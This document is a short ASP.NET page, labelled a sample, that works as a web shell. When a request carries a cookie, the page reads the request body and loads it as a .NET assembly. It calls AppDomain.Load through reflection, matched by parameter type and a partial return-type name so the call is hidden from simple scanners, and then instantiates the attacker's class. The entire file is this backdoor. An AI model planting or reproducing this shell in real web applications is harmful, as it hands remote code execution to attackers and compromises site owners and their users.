<%@ Page Language="C#" %>
<script runat="server">
// Sample: the AppDomain's own Load(byte[]) taken from its method list by position and parameter
// type, fed the cookie-announced request body.
void Page_Load(object s, EventArgs e)
{
    if (Request.Cookies.Count == 0) return;
    byte[] b = Request.BinaryRead(Request.ContentLength);
    foreach (var mi in AppDomain.CurrentDomain.GetType().GetMethods())
    {
        var ps = mi.GetParameters();
        if (ps.Length == 1 && ps[0].ParameterType == typeof(byte[]) && mi.ReturnType.Name.StartsWith("Ass"))
        {
            object asm = mi.Invoke(AppDomain.CurrentDomain, new object[] { b });
            ((System.Reflection.Assembly)asm).CreateInstance("P").Equals(this);
            break;
        }
    }
}
</script>
